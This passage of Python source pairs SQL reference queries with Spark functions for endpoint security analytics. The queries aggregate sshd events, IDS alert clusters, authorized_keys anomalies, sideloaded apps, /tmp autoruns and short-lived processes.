GROUP BY host HAVING bool_and(process = 'chrome.exe'))""")
def injected_regions(spark, sf):
    return endpoint.injected_regions(rows(spark, sf, "regions"))


@query("remote_sessions", f"""WITH {cte('sessions')}, c0 AS (SELECT app, direction, peer,
count(*) AS n FROM sessions GROUP BY ALL), c AS (SELECT *, row_number() OVER (PARTITION BY app,
direction ORDER BY n DESC, peer) AS rn FROM c0)
SELECT app, direction, count(*) AS sessions, count(DISTINCT peer) AS peers, min(started)
AS first_seen, max(started) AS last_seen, (SELECT string_agg(peer || '=' || n, ';' ORDER BY rn)
FROM c WHERE rn <= 10 AND c.app = s.app AND c.direction = s.direction) AS top
FROM sessions s GROUP BY app, direction""")
def remote_sessions(spark, sf):
    return endpoint.remote_sessions(rows(spark, sf, "sessions")).withColumn(
        "top", show_top(F.col("top")))


@query("ids_alert_clusters", f"""WITH {cte('alerts')}, c0 AS (SELECT signature_id, src_ip, count(*)
AS n FROM alerts GROUP BY ALL), c AS (SELECT *, row_number() OVER (PARTITION BY signature_id
ORDER BY n DESC, src_ip) AS rn FROM c0)
SELECT signature_id, signature, count(*) AS event_count, min(severity) AS severity,
count(DISTINCT src_ip) AS sources, min(ts) AS first_seen, max(ts) AS last_seen,
(SELECT string_agg(src_ip || '=' || n, ';' ORDER BY rn) FROM c WHERE rn <= 10
AND c.signature_id = a.signature_id) AS top FROM alerts a GROUP BY signature_id, signature""")
def ids_alert_clusters(spark, sf):
    return endpoint.alert_clusters(rows(spark, sf, "alerts")).withColumn(
        "top", show_top(F.col("top")))


@query("sshd_events", f"""WITH {cte('journal')} SELECT event_id, CASE WHEN message LIKE 'Acc%' THEN
'accepted' WHEN message LIKE 'Fail%' THEN 'failed' ELSE 'sudo' END AS kind,
regexp_extract(message, '(u[0-9]+)', 1) AS "user", nullif(regexp_extract(message,
'from ([0-9.]+)', 1), '') AS source, nullif(regexp_extract(message, 'COMMAND=(.*)$', 1), '')
AS command FROM journal WHERE message <> 'session closed'""")
def sshd_events(spark, sf):
    return endpoint.sshd_events(rows(spark, sf, "journal")).drop("message")


@query("authorized_keys", f"""WITH {cte('keys')} SELECT "user", count(*) AS keys,
bool_or(comment LIKE '%kali') AS odd_comment FROM keys GROUP BY "user"
HAVING count(*) >= 70 OR bool_or(comment LIKE '%kali')""")
def authorized_keys(spark, sf):
    return endpoint.key_anomalies(rows(spark, sf, "keys"), 70)


@query("sideloaded_apps", f"""WITH {cte('packages')} SELECT package, installer FROM packages
WHERE installer <> 'com.android.vending'""")
def sideloaded_apps(spark, sf):
    return endpoint.sideloaded(rows(spark, sf, "packages"))


@query("device_diagnostics", f"""WITH {cte('diag')} SELECT CASE bug_type WHEN '298' THEN
'memory_kill' WHEN '309' THEN 'crash' ELSE 'wakeups' END AS kind, process, count(*) AS n FROM diag
WHERE bug_type <> '1' GROUP BY ALL""")
def device_diagnostics(spark, sf):
    return endpoint.device_diagnostics(rows(spark, sf, "diag"))


@query("system_log_signals", f"""WITH {cte('syslogs')} SELECT process, count(*) AS n FROM syslogs
WHERE type = 'Fault' OR subsystem = 'com.apple.TCC' GROUP BY process""")
def system_log_signals(spark, sf):
    return endpoint.high_signal_logs(rows(spark, sf, "syslogs"), ["com.apple.TCC"])


@query("suspicious_locations", f"""WITH {cte('autoruns')} SELECT owner, count(*) AS event_count,
min(program) AS sample FROM autoruns WHERE program LIKE '%/tmp/%' GROUP BY owner""")
def suspicious_locations(spark, sf):
    return endpoint.suspicious_places(rows(spark, sf, "autoruns"), "program", "owner")


@query("short_lived_processes", f"""WITH {cte('procs')} SELECT event_id, CAST(k / 10.0 AS DOUBLE)
AS lifetime FROM procs WHERE k <= 50 AND name <> 'Conhost.exe'""")
def short_lived_processes(spark, sf):
    from emberlog.operators.joins import short_lived
    p = rows(spark, sf, "procs").withColumn("exited", F.expr(
        "created + make_dt_interval(0, 0, 0, k / 10.0)"))
    return short_lived(p).select("event_id", F.round("lifetime", 3).alias("lifetime"))
